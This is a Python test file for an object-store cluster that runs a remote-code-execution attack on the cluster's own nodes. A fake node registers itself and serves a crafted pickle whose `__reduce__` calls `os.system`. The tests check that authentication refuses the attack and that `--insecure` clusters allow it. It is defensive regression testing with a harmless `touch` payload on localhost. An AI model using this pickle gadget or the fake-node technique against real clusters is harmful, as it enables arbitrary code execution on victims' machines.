"""The remote code execution an open cluster allowed, tried as an attacker would.

The attacker knows the protocols and holds no token.  It registers a made-up
node with the directory, reports an object under a name the victim uses, and
serves a crafted pickle from its own data plane server; if the victim's
``get(name)`` pulled it, the client's unpickling would run the attacker's
command as the victim.  Against an ``--insecure`` cluster the same attack
succeeds (which shows the attack is real and what ``--insecure`` means);
with the cluster token it is refused at the first step and nothing runs.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from conftest import Cluster, NodeProcess
from grpclib.client import Channel
from grpclib.exceptions import GRPCError

import objstore
from objstore.auth import cache_path
from objstore.checksum import crc32
from objstore.directory.codec import pb
from objstore.serialization import serialize
from objstore.transfer import wire

NAME = "model-weights"


class _Payload:
    """Unpickling this runs a shell command."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (self.command,))


def _crafted(marker: Path) -> tuple[bytes, bytes]:
    ser = serialize({"weights": _Payload(f"touch {marker}")})
    return ser.meta, ser.to_bytes()


@contextlib.asynccontextmanager
async def _evil_data_plane(meta: bytes, data: bytes) -> AsyncIterator[str]:
    """A data plane server that answers every FETCH and FETCH_MANY with ``data``."""

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(ConnectionError, asyncio.IncompleteReadError):
            while True:
                head = await reader.readexactly(wire.REQUEST.size)
                try:
                    kind, _, offset, length = wire.decode_request(head)
                except wire.WireError:
                    return  # e.g. an authentication hello: this server knows no token
                if kind == wire.HELLO:
                    continue
                if kind == wire.FETCH_MANY:
                    await reader.readexactly(20 * length)
                    for _ in range(length):
                        reply = wire.encode_reply(wire.OK, len(data), len(data), len(meta))
                        writer.write(reply[:-4] + crc32(data).to_bytes(4, "little") + meta + data)
                else:
                    chunk = data[offset : offset + length]
                    m = meta if offset == 0 else b""
                    reply = wire.encode_reply(wire.OK, len(data), len(chunk), len(m), crc32(chunk))
                    writer.write(reply + m + chunk)
                await writer.drain()
        writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    try:
        yield f"127.0.0.1:{port}"
    finally:
        server.close()
        await server.wait_closed()


async def _attack(directory: str, address: str, meta: bytes, data: bytes) -> list[str]:
    """Register a fake node and report an object named NAME on it; what was refused."""
    host, _, port = directory.rpartition(":")
    refused: list[str] = []
    channel = Channel(host, int(port))
    stub = pb.DirectoryStub(channel)
    node_id, session, oid = os.urandom(16), os.urandom(16), os.urandom(20)
    try:
        for what, call in (
            (
                "register",
                lambda: stub.register(
                    pb.RegisterRequest(
                        node_id=node_id,
                        session=session,
                        address=address,
                        socket="/nonexistent",
                        hostname="evil",
                        pid=1,
                    )
                ),
            ),
            (
                "report",
                lambda: stub.report(
                    pb.LocationReport(
                        node_id=node_id,
                        session=session,
                        added_ids=oid,
                        added_sizes=[len(data)],
                        added_primary=[True],
                        named_index=[0],
                        names=[NAME],
                    )
                ),
            ),
        ):
            try:
                async with asyncio.timeout(10):
                    await call()
            except GRPCError as exc:
                refused.append(f"{what}: {exc.status.name}")
    finally:
        channel.close()
    return refused


async def _victim_get(node: NodeProcess) -> object:
    async with objstore.connect(node.socket) as client:
        try:
            return await client.get(NAME, timeout=5)
        except objstore.ObjectStoreError as exc:
            return exc


async def test_a_fake_node_serving_a_pickle_runs_nothing(
    cluster_factory: Any, tmp_path: Path
) -> None:
    c: Cluster = cluster_factory(1)
    marker = tmp_path / "pwned"
    meta, data = _crafted(marker)
    async with _evil_data_plane(meta, data) as address:
        refused = await _attack(c.directory, address, meta, data)
        got = await _victim_get(c.nodes[0])
    assert refused == ["register: UNAUTHENTICATED", "report: UNAUTHENTICATED"]
    assert isinstance(got, objstore.ObjectNotFoundError), got
    await asyncio.sleep(0.2)
    assert not marker.exists(), "the attacker's command ran"


@pytest.mark.slow
async def test_the_same_attack_works_on_an_insecure_cluster(
    node_factory: Any, tmp_path: Path
) -> None:
    """--insecure means what it says: anyone who reaches the ports owns the cluster."""
    from conftest import CLUSTER_ENV

    head: NodeProcess = node_factory("--insecure", env=CLUSTER_ENV)
    victim: NodeProcess = node_factory(
        "--insecure", directory=head.ready["directory"], env=CLUSTER_ENV
    )
    marker = tmp_path / "pwned"
    meta, data = _crafted(marker)
    async with _evil_data_plane(meta, data) as address:
        refused = await _attack(str(head.ready["directory"]), address, meta, data)
        assert refused == []
        await _victim_get(victim)
    for _ in range(50):
        if marker.exists():
            break
        await asyncio.sleep(0.1)
    assert marker.exists(), "the attack did not work even without authentication"


@pytest.mark.skipif(
    os.getuid() != 0, reason="needs root to become uid 65534 (CI runs as root, so this runs there)"
)
def test_another_user_cannot_read_the_published_token(cluster_factory: Any) -> None:
    c: Cluster = cluster_factory(0)
    path = cache_path(c.directory)
    assert os.path.exists(path)
    pid = os.fork()
    if pid == 0:  # the child: become nobody, try to read the token
        code = 3
        try:
            os.setgid(65534)
            os.setuid(65534)
            try:
                with open(path, "rb"):
                    code = 1
            except PermissionError:
                code = 0
        finally:
            os._exit(code)
    _, status = os.waitpid(pid, 0)
    assert os.waitstatus_to_exitcode(status) == 0
